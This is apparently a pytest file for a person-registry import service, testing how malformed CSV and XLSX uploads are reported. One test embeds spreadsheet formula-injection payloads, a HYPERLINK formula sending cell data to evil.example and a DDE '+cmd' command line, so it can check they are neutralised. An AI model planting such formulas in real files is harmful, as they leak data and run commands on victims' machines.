"""Deliberately broken files: each gives the right report and leaves the database as it was."""

import datetime as dt
import io
import random

import pytest
from openpyxl import load_workbook

from panah.imports.report import to_text, to_xlsx
from panah.imports.services import import_file
from panah.imports.validate import Report
from tests.imports.files import RU_HEADER, RU_ROWS, csv_bytes, snapshot, xlsx_bytes


def check(cast, data, name="persons.csv", **options):
    before = snapshot()
    run = import_file(by=cast.officer_a, organisation=cast.state, data=data, file_name=name, **options)
    assert snapshot() == before or options.get("skip_invalid")
    return Report.from_dict(run.report)


def errors(report):
    return [(i.row, i.column, i.value, i.message) for i in report.issues if i.severity == "error"]


@pytest.mark.parametrize(
    ("encoding", "shown"),
    [("utf-8", "UTF-8"), ("utf-8-sig", "UTF-8 (BOM)"), ("cp1251", "Windows-1251"), ("utf-16", "UTF-16")],
)
def test_common_encodings_are_detected_and_read(cast, encoding, shown):
    report = check(cast, csv_bytes(RU_HEADER, RU_ROWS, encoding=encoding), dry_run=True)
    assert report.encoding == shown
    assert report.valid == 3 and not errors(report)
    assert dict(report.columns)["Фамилия"] == "family_name"


def test_bytes_that_are_no_known_encoding_are_reported_not_read_as_mojibake(cast):
    data = csv_bytes(["person_id", "family_name"], [["1", "x"]]) + bytes([0x98, 0x81, 0xC0, 0x00, 0x9F]) * 40
    report = check(cast, data)
    assert errors(report) == [(None, "", "", errors(report)[0][3])]
    assert "UTF-8, Windows-1251 or UTF-16" in errors(report)[0][3]


@pytest.mark.parametrize(("delimiter", "shown"), [(";", "semicolon (;)"), ("\t", "tab"), ("|", "vertical bar (|)")])
def test_the_delimiter_is_detected_and_shown(cast, delimiter, shown):
    report = check(cast, csv_bytes(RU_HEADER, RU_ROWS, delimiter=delimiter), dry_run=True)
    assert report.delimiter_label == shown and report.valid == 3


def test_a_row_written_with_another_delimiter_is_named(cast):
    data = (
        csv_bytes(RU_HEADER, RU_ROWS, delimiter=";")
        + ",".join(["A-9", "Husseini", "Zarina", "", "F", "1990", "", "KZ-55", "", "", ""]).encode()
        + b"\r\n"
    )
    report = check(cast, data)
    assert report.delimiter_label == "semicolon (;)"
    [(row, _column, _value, message)] = errors(report)
    assert row == 5 and "comma" in message
    assert report.created == 0


def test_a_sheet_without_an_identifier_column_is_read_each_row_known_by_its_person(cast):
    report = check(cast, csv_bytes(RU_HEADER[1:], [r[1:] for r in RU_ROWS]), dry_run=True)
    assert report.id_source == "derived" and report.valid == 3 and not errors(report)
    assert "no_id_column" in [i.code for i in report.issues if i.severity == "note"]


@pytest.mark.parametrize(
    "value",
    [
        "31.02.1990",
        "1990-13-01",
        "32/01/1990",
        "13.1990",
        "1990-00",
        "2990",
        "01.01.2999",
        "1850",
        "99999",
        "15.03.9O",
        "March 1990",
        "1990/02/30",
    ],
)
def test_bad_dates_of_every_format_are_reported_by_row_column_and_value(cast, value):
    rows = [*RU_ROWS, ["A-9", "Husseini", "Zarina", "", "F", value, "", "KZ-55", "", "", ""]]
    report = check(cast, csv_bytes(RU_HEADER, rows))
    assert [(r, c, v) for r, c, v, _m in errors(report)] == [(5, "Дата рождения", value)]


@pytest.mark.parametrize(
    ("column", "value"),
    [(6, "XYZ"), (6, "Марс"), (7, "KZ-99"), (7, "KZ-YUZ"), (4, "Q"), (9, "ZZZ")],
)
def test_unknown_codes_are_reported_once_for_the_file_with_their_rows(cast, column, value):
    row = ["A-9", "Husseini", "Zarina", "", "F", "1990", "", "KZ-55", "", "беженец", "2015"]
    row[column] = value
    report = check(cast, csv_bytes(RU_HEADER, [*RU_ROWS, row, *([f"A-1{n}", *row[1:]] for n in range(3))]))
    assert [(r, c, v) for r, c, v, _m in errors(report)] == [(None, RU_HEADER[column], value)]
    [entry] = report.unknown_values
    assert (entry["value"], entry["n"], entry["rows"]) == (value, 4, [5, 6, 7, 8])
    assert report.valid == 3


def test_values_written_as_people_write_them_in_three_languages(cast):
    header = ["Тегі", "Аты", "Жынысы", "Туған күні", "Азаматтығы", "Облыс", "person_id", "Шыққан елі"]
    rows = [
        ["Ахмади", "Әли", "Е", "1990-03-15", "азаматтығы жоқ", "Павлодар облысы", "K-1", "Ауғанстан"],
        ["Ахмади", "Айша", "Ә", 32874, "Ауғанстан", "Павлодарская область", "K-2", "AF"],
        [
            "Ahmadi",
            "Aisha",
            "F",
            dt.datetime(1991, 1, 2, tzinfo=dt.UTC).replace(tzinfo=None),
            "undetermined",
            "KZ-PAV",
            "K-3",
            "Afghanistan",
        ],
    ]
    report = check(cast, xlsx_bytes([header, *rows]), name="persons.xlsx", dry_run=True)
    assert not errors(report), report.issues
    assert report.valid == 3 and report.format == "xlsx"


def test_title_blank_and_totals_rows_are_recognised_and_reported(cast):
    rows = [
        ["Список лиц без гражданства, Павлодарская область"],
        [],
        RU_HEADER,
        RU_ROWS[0],
        [],
        RU_ROWS[1],
        ["Итого", "", "", "", "", "", "", "", "", "", ""],
        ["Барлығы: 2"],
    ]
    report = check(cast, xlsx_bytes(rows), name="list.xlsx", dry_run=True)
    assert report.header_row == 3 and report.valid == 2 and not errors(report)
    assert [row for row, _reason in report.skipped] == [1, 5, 7, 8]
    assert [reason for _row, reason in report.skipped] == ["title_row", "blank_row", "totals_row", "totals_row"]
    assert "row 5: skipped (blank row)" in to_text(report)


def test_a_formula_in_a_cell_is_neutralised_in_the_downloaded_report(cast):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    header = [*RU_HEADER, "+cmd|' /C calc'!A0"]
    rows = [[*RU_ROWS[0], ""], ["A-9", "Husseini", "Zarina", "", "F", formula, "", "KZ-55", "", "", "", "@SUM(1)"]]
    report = check(cast, csv_bytes(header, rows))
    assert (3, "Дата рождения", formula) in [(r, c, v) for r, c, v, _m in errors(report)]
    workbook = load_workbook(io.BytesIO(to_xlsx(report)))
    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c for c in cells if c.data_type == "f"]
    assert not [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))]
    assert "'" + formula in [c.value for c in cells]
    assert "'+cmd|' /C calc'!A0" in [c.value for c in cells]


def test_ten_megabytes_of_garbage_is_reported_as_unreadable(cast):
    garbage = random.Random(7).randbytes(10 * 1024 * 1024)
    report = check(cast, garbage)
    assert len(errors(report)) == 1 and errors(report)[0][0] is None
    report = check(cast, garbage, name="garbage.xlsx")
    assert "XLSX" in errors(report)[0][3]


@pytest.mark.parametrize("data", [b"", b"\r\n\r\n   \n", b"\xef\xbb\xbf"])
def test_an_empty_file_is_reported(cast, data):
    report = check(cast, data)
    assert [m for _r, _c, _v, m in errors(report)] == ["The file is empty."]


def test_a_header_without_rows_is_reported(cast):
    report = check(cast, csv_bytes(RU_HEADER, []))
    assert [m for _r, _c, _v, m in errors(report)] == ["The file has no rows of persons under the header."]


def test_a_person_id_used_twice_and_a_document_used_twice_are_named_with_the_first_row(cast):
    rows = [*RU_ROWS, ["A-1", "Husseini", "Zarina", "", "F", "1990", "", "KZ-55", "P-1234567", "", ""]]
    report = check(cast, csv_bytes(RU_HEADER, rows))
    messages = {c: m for r, c, v, m in errors(report)}
    assert "row 2" in messages["ID"] and "row 2" in messages["Номер документа"]


def test_unknown_columns_are_kept_and_reported(cast):
    header = [*RU_HEADER, "Примечание"]
    report = check(cast, csv_bytes(header, [[*r, "note"] for r in RU_ROWS]), dry_run=True)
    assert report.unknown_columns == ["Примечание"] and report.valid == 3


def test_arabic_script_names_in_utf8_are_read_as_utf8(cast):
    rows = [["R-1", "احمدی", "محمد", "", "M", "1990", "AFG", "KZ-55", "", "", ""]]
    report = check(cast, csv_bytes(RU_HEADER, rows), dry_run=True)
    assert report.encoding == "UTF-8" and report.valid == 1
